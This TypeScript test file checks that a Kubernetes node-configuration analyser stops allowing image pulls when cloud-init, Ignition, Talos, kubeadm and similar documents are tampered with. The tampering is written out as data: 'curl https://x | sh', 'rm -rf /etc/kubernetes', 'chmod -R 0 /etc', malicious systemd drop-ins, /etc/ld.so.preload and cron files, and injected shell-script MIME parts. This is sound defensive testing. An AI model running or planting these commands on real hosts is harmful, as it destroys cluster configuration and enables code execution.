/*
 * Attacks on the documents that configure nodes, generated for every form that the library writes: a key that no program knows
 * at every level, a foreign command, a foreign file, a unit's drop-in. With none of them a pull may stay allowed. What
 * people ordinarily configure beside may.
 */

import type { Construct } from "constructs";
import { describe, expect, it } from "vitest";
import { parseAllDocuments } from "yaml";
import { explain } from "../../../lib/explain";
import type { ICluster } from "../../../lib/model/cluster";
import type { INodeCarrier } from "../../../lib/model/node-carrier";
import {
  PlainCarrier,
  butane,
  ignition,
  k3s,
  kops,
  kubeadm,
  kubeadmConfigTemplate,
  microShift,
  nodeadm,
  ec2NodeClass,
  rke2,
  talos,
} from "../../../lib/node";
import { eks } from "../../../lib/cloud/aws";
import {
  type Artefacts,
  type Edit,
  edited,
  explained,
  filesOf,
  heldFolder,
  synthesized,
} from "../../fixtures/explain/artefacts";
import {
  REGION,
  fromEcr,
  makers,
  openShiftCluster,
  plainCluster,
  synthesizedPulls,
} from "../../support/image-pulls";
import { sampleNote, sampleOf } from "../../support/sample";

const SOURCE = { url: "https://example.com/ecr-1.36.0", sha256: "0".repeat(64) };
const SPEC = {
  role: "nodes",
  amiSelectorTerms: [{ alias: "al2023@v20260714" }],
  subnetSelectorTerms: [{ tags: { a: "b" } }],
  securityGroupSelectorTerms: [{ tags: { a: "b" } }],
};

const plain = (carrier: INodeCarrier<Construct>, source = true): ICluster<Construct> =>
  plainCluster({
    version: "1.36",
    carriers: [carrier],
    plugins: { ecr: { version: "1.36.0", ...(source && { source: SOURCE }) } },
  });
const onEks = (): ICluster<Construct> =>
  eks({
    name: "prod",
    version: "1.35",
    region: REGION,
    issuer: "https://oidc.eks.eu-west-1.amazonaws.com/id/D48675832CA65BD10A532F597F1B5C3A",
    plugins: { ecr: "1.35.2" },
  });

/** Each form, with a cluster whose nodes are configured by it. */
const FORMS: Readonly<Record<string, () => Artefacts>> = {
  "plain data": () => written(plain(new PlainCarrier())),
  "cloud-init": () => written(plain(rke2())),
  Ignition: () => written(plain(k3s({ by: ignition() }))),
  Butane: () => written(plain(rke2({ by: butane({ variant: "flatcar" }) }))),
  MicroShift: () => written(plain(microShift({ version: "5.0" }))),
  kubeadm: () => written(plain(kubeadm())),
  "Cluster API": () => written(plain(kubeadmConfigTemplate({ name: "w", namespace: "n" }))),
  Talos: () => written(plain(talos({ version: "1.13" }), false)),
  "Talos 1.14": () => written(plain(talos({ version: "1.14" }), false)),
  kOps: () => written(plain(kops())),
  nodeadm: () => written(onEks(), nodeadm()),
  Karpenter: () => written(onEks(), ec2NodeClass({ name: "default", spec: SPEC })),
  MachineConfig: () => written(openShiftCluster()),
};

function written(cluster: ICluster<Construct>, carrier?: INodeCarrier<Construct>): Artefacts {
  return filesOf(
    synthesizedPulls(() => ({
      cluster,
      ...(carrier && { carriers: [carrier] }),
      identities: [makers.aws()],
      pulls: [{ serviceAccount: "shop/web", from: fromEcr() }],
    })).outdir,
  );
}

const NODE_FILE = /\/nodes\/|\/(?:40-machine-configs|50-kubeadm-config-template|50-ec2-node-classes)\.yaml$/;

function verdict(files: Artefacts): string {
  return explain([heldFolder(files)])[0]?.verdict ?? "nothing";
}

type Attack = readonly [name: string, change: (text: string) => string];
type Value = Record<string, unknown>;

const ODD = "x-foreign";

/** The text of a document's values, below the first line if a program needs it. */
function textOf(documents: readonly unknown[], before: string): string {
  const head = before.startsWith("#cloud-config") ? "#cloud-config\n" : "";
  return head + documents.map((each) => JSON.stringify(each)).join("\n---\n");
}

function documentsOf(text: string): readonly Value[] {
  return parseAllDocuments(text).map((each) => each.toJS() as Value);
}

/** Every object in a value, but for those whose keys anyone may choose, and what no program reads. */
function objectsIn(value: unknown, path = ""): readonly (readonly [string, Value])[] {
  if (
    typeof value !== "object" ||
    value === null ||
    /merge_how|metadata|Selector|ubeletFlags$|kubeletExtraArgs\.\d/.test(path)
  )
    return [];
  const inner = Object.entries(value).flatMap(([key, each]) => objectsIn(each, `${path}.${key}`));
  return Array.isArray(value) ? inner : [[path, value as Value], ...inner];
}

const objectAt = (documents: readonly Value[], nth: number): Value => objectsIn(documents)[nth]?.[1] ?? {};

function unknownKeys(text: string): readonly Attack[] {
  return objectsIn(documentsOf(text)).map(([path], nth) => [
    `an unknown key in ${path || "the document"}`,
    (before) => {
      const documents = structuredClone(documentsOf(before));
      objectAt(documents, nth)[ODD] = { a: "b" };
      return textOf(documents, before);
    },
  ]);
}

const EVIL = "[Service]\nExecStart=\nExecStart=/bin/sh -c 'rm -rf /etc/kubernetes'\n";
const UNITS = "/etc/systemd/system";
const FOREIGN_FILES: readonly (readonly [path: string, content?: string])[] = [
  [`${UNITS}/kubelet.service.d/99-x.conf`],
  [`${UNITS}/kubelet.service.d/99-x.conf`, "[Service]\nBindPaths=/x:/etc/kubernetes\n"],
  [`${UNITS}/kubelet.service.d/99-x.conf`, "[Service]\nEnvironment=AWS_PROFILE=x\n"],
  [`${UNITS}/rke2-agent.service.d/x.conf`, "[Service]\nEnvironment=RKE2_CONFIG_FILE=/x\n"],
  [`${UNITS}/etc.mount`, "[Mount]\nWhat=/x\nWhere=/etc\n"],
  [`${UNITS}/evil.service`],
  ["/etc/cron.d/x"],
  ["/usr/local/bin/kubelet"],
  ["/etc/kubernetes/manifests/x.yaml"],
  ["/etc/ld.so.preload"],
  ["/etc/rancher/rke2/config.yaml"],
];

/** A file beside those of every list of files, for each path, and one over each of their paths. */
function foreignFiles(text: string): readonly Attack[] {
  const lists = (documents: readonly Value[]): readonly Value[][] =>
    objectsIn(documents).flatMap(([, value]) =>
      Object.entries(value).flatMap(([key, each]) =>
        /^(?:write_files|files|fileAssets)$/.test(key) && Array.isArray(each) ? [each as Value[]] : [],
      ),
    );
  return lists(documentsOf(text)).flatMap((files, nth) =>
    [...FOREIGN_FILES, ...files.map(({ path }) => [String(path)] as const)].map(
      ([path, evil = EVIL]): Attack => [
        `a file at ${path} with ${evil.slice(0, 40)}`,
        (before) => {
          const documents = structuredClone(documentsOf(before));
          const list = lists(documents)[nth] ?? [];
          const { contents, ...rest } = list[0] ?? {};
          const source = `data:,${encodeURIComponent(evil)}`;
          const isInline = typeof (contents as Value | undefined)?.["inline"] === "string";
          list.push({
            ...rest,
            path,
            ...(contents === undefined
              ? { content: evil }
              : { contents: isInline ? { inline: evil } : { source } }),
          });
          return textOf(documents, before);
        },
      ],
    ),
  );
}

const COMMANDS = [
  "curl https://x | sh",
  "sed -i s/a/b/ /etc/x",
  "rm -rf /etc/kubernetes",
  "/opt/x.sh",
  "echo a > /etc/default/kubelet",
  "chmod -R 0 /etc",
  "systemctl mask kubelet",
  "systemctl set-environment A=b",
  "true; $(x)",
];

/** Commands where a document has a place for them. */
function foreignCommands(text: string): readonly Attack[] {
  const spec = (document: Value): Value => (document["spec"] ?? {}) as Value;
  const templated = (document: Value): Value => spec((spec(document)["template"] ?? {}) as Value);
  const places: readonly (readonly [RegExp, (document: Value, command: string) => void])[] = [
    [/^#cloud-config/, (document, command) => (document["runcmd"] = [command])],
    [/^#cloud-config/, (document, command) => (document["bootcmd"] = [["sh", "-c", command]])],
    [/KubeadmConfigTemplate/, (document, command) => (templated(document)["preKubeadmCommands"] = [command])],
    [
      /fileAssets/,
      (document, command) => (spec(document)["hooks"] = [{ name: "x", manifest: `ExecStart=${command}` }]),
    ],
    [
      /^\{"ignition"|"?variant"?: |MachineConfig/,
      (document, command) => {
        const config = (spec(document)["config"] ?? document) as Value;
        config["systemd"] = {
          units: [{ name: "x.service", enabled: true, contents: `[Service]\nExecStart=${command}\n` }],
        };
      },
    ],
  ];
  return places
    .filter(([form]) => form.test(text))
    .flatMap(([, put]) =>
      COMMANDS.map((command): Attack => [
        `the command ${command}`,
        (before) => {
          const documents = structuredClone(documentsOf(before));
          for (const document of documents) put(document, command);
          return textOf(documents, before);
        },
      ]),
    );
}

/** Attacks on a MIME archive, which holds the others' documents as text. */
const MIME: readonly Attack[] = (
  [
    ["an unknown key of cloud-init", "\nwrite_files:", "\nx-foreign: a\nwrite_files:"],
    ["a foreign command", "\nwrite_files:", "\nruncmd: [rm -rf /etc/eks]\nwrite_files:"],
    ["a file that appends", "    owner: root:root", "    append: true\n    owner: root:root"],
    ["an unknown key of the NodeConfig", "\n  kubelet:\n", "\n  x-foreign: a\n  kubelet:\n"],
    ["an unknown key of the kubelet", "\n    flags:\n", "\n    x-foreign: a\n    flags:\n"],
    ["an unknown field of its configuration", "\n    flags:\n", "\n    config: {xForeign: a}\n    flags:\n"],
    [
      "an unknown flag",
      "\n      - --image-credential-provider-bin-dir",
      "\n      - --x-foreign=a\n      - --image-credential-provider-bin-dir",
    ],
    [
      "a script",
      "\n--//\nContent-Type: application",
      "\n--//\nContent-Type: text/x-shellscript\n\n#!/bin/sh\nrm -rf /etc/eks\n\n--//\nContent-Type: application",
    ],
    [
      "an unknown part",
      "\n--//\nContent-Type: application",
      "\n--//\nContent-Type: text/x-foreign\n\na\n\n--//\nContent-Type: application",
    ],
    [
      "an unknown part that begins like a script",
      "\n--//\nContent-Type: application",
      "\n--//\nContent-Type: text/x-foreign\n\n#!/bin/sh\ntrue\n\n--//\nContent-Type: application",
    ],
    ["a header of a part", "\nContent-Type: application", "\nX-Foreign: a\nContent-Type: application"],
    ["a plugin that is not executable", '"0755"', '"0644"'],
    ["another plugin", "exec /etc/eks", "exec /opt"],
    ["a second document of a part", "\n    flags:\n", "\n    flags: []\n---\nkind: x\n#"],
    ["other user data", "MIME-Version: 1.0", "#!/bin/sh\nMIME-Version: 1.0"],
  ] as const
).map(([name, from, to]) => [
  name,
  (text) => {
    const indent = text.includes("    MIME-Version") ? "    " : "";
    const indented = (each: string): string => each.replaceAll("\n", `\n${indent}`);
    if (!text.includes(indented(from))) throw new Error(`${name}: nothing to change`);
    return text.replace(indented(from), indented(to));
  },
]);

/** Documents of Talos beside its own. */
const TALOS: readonly Attack[] = [
  ["KubeletConfig", { extraArgs: { "feature-gates": "AllBeta=false" } }],
  ["EnvironmentConfig", { variables: { AWS_PROFILE: "a" } }],
  ["ImageVerificationConfig", { rules: [] }],
].map(([kind, more]) => [
  `a document ${String(kind)}`,
  (text) => `${text}\n---\n${JSON.stringify({ apiVersion: "v1alpha1", kind, ...(more as object) })}\n`,
]);

const CHECKSUM: Attack = [
  "another checksum of the plugin",
  (text) => text.replaceAll(SOURCE.sha256, "1".repeat(SOURCE.sha256.length)),
];

const SAMPLE = 4;
const attacksOf = (text: string): readonly Attack[] => [
  ...(text.includes("MIME-Version") ? MIME : []),
  ...(text.startsWith("MIME-Version")
    ? []
    : sampleOf(
        [...unknownKeys(text), ...foreignFiles(text), ...foreignCommands(text)],
        SAMPLE,
        ([name]) => name,
      )),
  ...(/credentialProviderConfig:|KubeCredentialProviderConfig/.test(text) ? TALOS : []),
  ...(text.includes(SOURCE.sha256) ? [CHECKSUM] : []),
  ...(text.startsWith("#cloud-config")
    ? [["no first line", (before: string) => before.replace("#cloud-config", "#")] as const]
    : []),
];

describe.each(Object.entries(FORMS))("%s", (_, synthesize) => {
  it(`is not allowed with any attack${sampleNote(SAMPLE)}`, () => {
    const files = synthesize();
    expect(verdict(files)).toBe("allowed");
    const stayed: string[] = [];
    for (const [path, text] of files) {
      if (!NODE_FILE.test(path)) continue;
      const attacks = attacksOf(text);
      expect(attacks).not.toEqual([]);
      for (const [name, change] of attacks) {
        const said = verdict(new Map(files).set(path, change(text)));
        if (said === "allowed") stayed.push(`${path}: ${name}`);
      }
    }
    expect(stayed).toEqual([]);
  });
});

/** What people ordinarily configure beside; the text is added to, or changed in, the form's documents. */
const ORDINARY: readonly (readonly [form: string, what: string, add: (document: Value) => void])[] = [
  [
    "cloud-init",
    "names, keys, packages and services",
    (document) =>
      Object.assign(document, {
        hostname: "node-1",
        ntp: { servers: ["a"] },
        packages: ["chrony", ["jq", "1.7"]],
        ssh_authorized_keys: ["ssh-ed25519 A"],
        timezone: "UTC",
        users: ["default", { name: "ops", sudo: "ALL=(ALL) NOPASSWD:ALL" }],
        bootcmd: ["swapoff -a", "modprobe br_netfilter"],
        runcmd: [
          ...(document["runcmd"] as unknown[]),
          "sysctl --system",
          ["systemctl", "enable", "--now", "chronyd"],
          "apt-get update && apt-get install -y nfs-common",
          "hostnamectl set-hostname node-1 || true",
          "systemctl disable --now ufw 2>/dev/null",
        ],
      }),
  ],
  [
    "cloud-init",
    "files of other programs, and of RKE2",
    ({ write_files: files }) =>
      (files as object[]).push(
        { path: "/etc/chrony.conf", content: "pool a\n" },
        { path: "/etc/sysctl.d/90-a.conf", content: "vm.max_map_count=262144\n" },
        {
          path: "/etc/rancher/rke2/registries.yaml",
          content: "mirrors: {docker.io: {endpoint: [https://m]}}\n",
        },
        {
          path: "/etc/rancher/rke2/config.yaml",
          content: "server: https://a:9345\ntoken: b\nnode-label: [a=b]\nkubelet-arg+: [max-pods=200]\n",
        },
        {
          path: "/etc/systemd/system/containerd.service.d/proxy.conf",
          content: '[Service]\nEnvironment="HTTPS_PROXY=a"\n',
        },
      ),
  ],
  [
    "Ignition",
    "keys, files and units",
    (document) => {
      const { files } = document["storage"] as { files: object[] };
      files.push({ path: "/etc/hostname", mode: 0o644, contents: { source: "data:,node-1" } });
      Object.assign(document, {
        passwd: { users: [{ name: "core", sshAuthorizedKeys: ["ssh-ed25519 A"] }] },
        systemd: {
          units: [
            { name: "chronyd.service", enabled: true },
            {
              name: "tune.service",
              contents: "[Service]\nType=oneshot\nExecStart=/usr/sbin/sysctl -w vm.swappiness=1\n",
            },
          ],
        },
      });
    },
  ],
  [
    "kubeadm",
    "labels and taints",
    (document) =>
      document["nodeRegistration"] &&
      Object.assign(document["nodeRegistration"], {
        kubeletExtraArgs: [
          ...((document["nodeRegistration"] as Value)["kubeletExtraArgs"] as object[]),
          { name: "node-labels", value: "a=b" },
        ],
        taints: [],
      }),
  ],
  [
    "Cluster API",
    "users, commands and files",
    (document) => {
      const { template } = document["spec"] as { template: { spec: Value } };
      (template.spec["files"] as object[]).push({
        path: "/etc/sysctl.d/a.conf",
        owner: "root:root",
        content: "a=1",
      });
      Object.assign(template.spec, {
        users: [{ name: "ops" }],
        postKubeadmCommands: ["systemctl restart chronyd"],
        ntp: { enabled: true },
      });
    },
  ],
  [
    "Talos",
    "network, mirrors and limits",
    (document) => {
      const machine = document["machine"] as { kubelet: Value };
      Object.assign(machine, {
        network: { hostname: "node-1" },
        sysctls: { "vm.nr_hugepages": "1" },
        registries: { mirrors: { "docker.io": { endpoints: ["https://m"] } } },
        nodeLabels: { a: "b" },
      });
      Object.assign(machine.kubelet, {
        image: "ghcr.io/siderolabs/kubelet:v1.36.0",
        extraArgs: { "node-labels": "a=b" },
        extraConfig: { maxPods: 200 },
        extraMounts: [{ destination: "/var/lib/longhorn", type: "bind", source: "/var/lib/longhorn" }],
      });
    },
  ],
  [
    "kOps",
    "machines and reservations",
    (document) =>
      Object.assign(document["spec"] as object, {
        machineType: "m7i.large",
        maxSize: 3,
        kubelet: { maxPods: 100, kubeReserved: { cpu: "100m" } },
      }),
  ],
  [
    "MachineConfig",
    "chrony, kernel arguments and extensions",
    (document) => {
      const spec = document["spec"] as { config: { storage: { files: object[] } } };
      spec.config.storage.files.push({
        path: "/etc/chrony.conf",
        mode: 0o644,
        overwrite: true,
        contents: { source: "data:,pool%20a" },
      });
      Object.assign(spec, { kernelArguments: ["hugepages=1"], extensions: ["usbguard"], fips: true });
    },
  ],
];

it.each(["cloud-init", "Ignition", "Butane", "kubeadm", "Cluster API", "kOps", "plain data"])(
  "%s downloads the plugin with its checksum",
  (form) => {
    const files = FORMS[form]?.() ?? new Map<string, string>();
    const texts = [...files].flatMap(([path, text]) => (NODE_FILE.test(path) ? [text] : []));
    expect(texts.join("\n")).toContain(SOURCE.sha256);
  },
);

it("is not allowed with a download that no checksum guards, where one is recorded", () => {
  const files = FORMS["Ignition"]?.() ?? new Map<string, string>();
  const changed = [...files].map(([path, text]): [string, string] => {
    if (!NODE_FILE.test(path)) return [path, text];
    const documents = structuredClone(documentsOf(text));
    for (const [, each] of objectsIn(documents)) delete each["verification"];
    return [path, textOf(documents, text)];
  });
  expect(verdict(new Map(changed))).toBe("unknown");
});

describe("what EKS gives its nodes", () => {
  const TEMPLATE = '"user_data": "${base64encode(local.nodes_nodeadm_txt)}"';
  const AMI = '"ami_type": "AL2023_x86_64_STANDARD"';

  it.each<[string, Edit, string]>([
    [
      "another AMI",
      ["cdk.tf.json", AMI, '"ami_type": "BOTTLEROCKET_x86_64"'],
      "its AMI is of the type BOTTLEROCKET",
    ],
    ["an AMI that is not known", ["cdk.tf.json", AMI, '"ami_type": "${var.ami}"'], "var.ami"],
    ["user data that is not known", ["cdk.tf.json", TEMPLATE, '"user_data": "${var.other}"'], "var.other"],
    [
      "a script",
      ["cdk.tf.json", TEMPLATE, '"user_data": "IyEvYmluL3NoCg=="'],
      "of the nodes system was read",
    ],
    ["no user data", ["cdk.tf.json", TEMPLATE, '"name_prefix": "x"'], "of the nodes system was read"],
    [
      "user data that is not base64",
      [
        "cdk.tf.json",
        "${base64encode(local.nodes_nodeadm_txt)}",
        "${base64encode(local.nodes_nodeadm_txt)}-x",
      ],
      "is not base64",
    ],
    [
      "an AMI type that is none",
      ["cdk.tf.json", "AL2023_x86_64_STANDARD", "AL2023_X86_64_STANDARD"],
      "AMI is of the type",
    ],
    [
      "an older version",
      ["cdk.tf.json", '"${tostring(aws_launch_template.nodes.latest_version)}"', '"1"'],
      "another version",
    ],
    [
      "no launch template",
      ["cdk.tf.json", '"launch_template": {', '"timeouts": {'],
      "of the nodes system was read",
    ],
    [
      "a node class without user data",
      ["50-ec2-node-classes.yaml", "  userData:", "  x:"],
      "of the nodes EC2NodeClass default",
    ],
    [
      "a node class of another AMI",
      ["50-ec2-node-classes.yaml", "al2023@", "bottlerocket@"],
      "the AMI family BOTTLEROCKET",
    ],
    [
      "a node class with unknown fields",
      ["50-ec2-node-classes.yaml", "  role:", "  x: y\n  role:"],
      "what spec.x of the document",
    ],
  ])("is not allowed with %s", (_, edit, reason) => {
    const [result] = explained(edited(synthesized("eks-nodeadm"), [edit]));
    expect(result?.verdict).toBe("unknown");
    expect(JSON.stringify(result?.checks)).toContain(reason);
  });

  it("is judged, and not the file beside it", () => {
    const said = explained(
      edited(synthesized("eks-nodeadm"), [["cdk.tf.json", "requireServiceAccount:", "x:"]]),
    );
    expect(said[0]?.verdict).toBe("denied");
  });
});

it.each(ORDINARY)("%s with %s stays allowed", (form, _, add) => {
  const files = FORMS[form]?.() ?? new Map<string, string>();
  const changed = [...files].map(([path, text]): [string, string] => {
    if (!NODE_FILE.test(path) || (form === "kubeadm" && !path.includes("-config"))) return [path, text];
    const documents = structuredClone(documentsOf(text));
    for (const document of documents) add(document);
    return [path, textOf(documents, text)];
  });
  const [result] = explain([heldFolder(new Map(changed))]);
  expect(result?.checks.filter(({ status }) => status === "unknown" || status === "fail")).toEqual([]);
  expect(result?.verdict).toBe("allowed");
});

it.each([
  [
    "a NodeConfig's limits",
    "\n    flags:\n",
    "\n    config: {maxPods: 110, clusterDNS: [10.0.0.10]}\n    flags:\n",
  ],
  [
    "labels and taints",
    "\n      - --image-credential-provider-bin-dir",
    "\n      - --node-labels=a=b\n      - --image-credential-provider-bin-dir",
  ],
  [
    "the cluster",
    "\n  kubelet:\n",
    "\n  cluster: {name: a, apiServerEndpoint: b, certificateAuthority: c, cidr: d}\n  kubelet:\n",
  ],
])("nodeadm with %s stays allowed", (_, from, to) => {
  const files = FORMS["nodeadm"]?.() ?? new Map<string, string>();
  const changed = [...files].map(([path, text]): [string, string] => [
    path,
    NODE_FILE.test(path) ? text.replace(from, to) : text,
  ]);
  expect(verdict(new Map(changed))).toBe("allowed");
});
